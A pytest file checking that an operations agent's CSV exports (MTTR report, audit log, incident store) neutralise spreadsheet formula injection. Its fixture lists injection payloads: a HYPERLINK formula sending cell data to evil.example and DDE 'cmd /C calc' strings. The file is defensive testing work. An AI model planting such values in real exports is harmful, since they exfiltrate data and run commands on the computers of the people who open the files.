"""Every CSV the agent writes keeps a spreadsheet from running a cell as a formula: text that
begins with = + - @ (or a tab or carriage return) is written after a ``'``; numbers stay numbers.
Each writer is driven through its own command, on a real store."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from agent import csvcells
from agent.cli import cli
from agent.cli.common import Settings
from agent.clock import ManualClock
from agent.store import Store
from tests.report.builders import add_incident

T0 = datetime(2026, 11, 25, 12, 0, tzinfo=timezone.utc)
REPO = Path(__file__).resolve().parents[2]
# What a hostile label, alert or reason may say, and what the CSV must hold for it.
HOSTILE = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
def opts(make_config, tmp_path):
    make_config("")
    state = tmp_path / "state"
    store = Store(state / "aiops.db")
    for n, value in enumerate(HOSTILE):
        at = T0 - timedelta(days=1, minutes=n)
        add_incident(store, started=at, detected=at + timedelta(seconds=30), resolved=at + timedelta(minutes=5),
                     labels={"service": value}, title=value)
        store.audit(value, "incident.acknowledge", value, {"reason": value}, now=at)
    store.close()
    return ["--config", str(tmp_path / "agent.yaml"), "--state-dir", str(state)]


def run(*args: str) -> str:
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False, obj=Settings(clock=ManualClock(T0)))
    assert result.exit_code == 0, result.output
    return result.output


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_report_mttr_csv(opts):
    groups = {r["group"] for r in rows(run("report", "mttr", "--by", "service", "--format", "csv", *opts))
              if r["section"] == "group"}
    assert groups == set(HOSTILE.values())


def test_audit_export_csv(opts, tmp_path):
    out = tmp_path / "audit.csv"
    run("audit", "export", "--since", "7d", "--format", "csv", "--out", str(out), *opts)
    entries = rows(out.open(newline="").read())
    assert [(e["actor"], e["subject"], e["reason"]) for e in entries] == [(v, v, v) for v in HOSTILE.values()]


def test_store_export_csv(opts):
    incidents = rows(run("store", "export", "incidents", "--format", "csv", *opts))
    assert [i["title"] for i in incidents] == list(HOSTILE.values())
    assert all(i["labels"].startswith('{"service": ') for i in incidents)  # JSON text starts with a brace


def test_numbers_are_data_not_formulas():
    assert [csvcells.neutral(v) for v in (-1.5, -3, 0, "-", "a-b", "")] == [-1.5, -3, 0, "'-", "a-b", ""]


def test_every_csv_writer_of_the_agent_goes_through_csvcells():
    """A new CSV writer elsewhere would bypass the neutralising: found here by its call."""
    found = [f"{path.relative_to(REPO)}:{n}" for folder in ("agent", "remediations", "detectors")
             for path in sorted((REPO / folder).rglob("*.py")) if path.name != "csvcells.py"
             for n, line in enumerate(path.read_text().splitlines(), 1)
             if re.search(r"\bcsv\.(writer|DictWriter)\(", line)]
    assert found == []

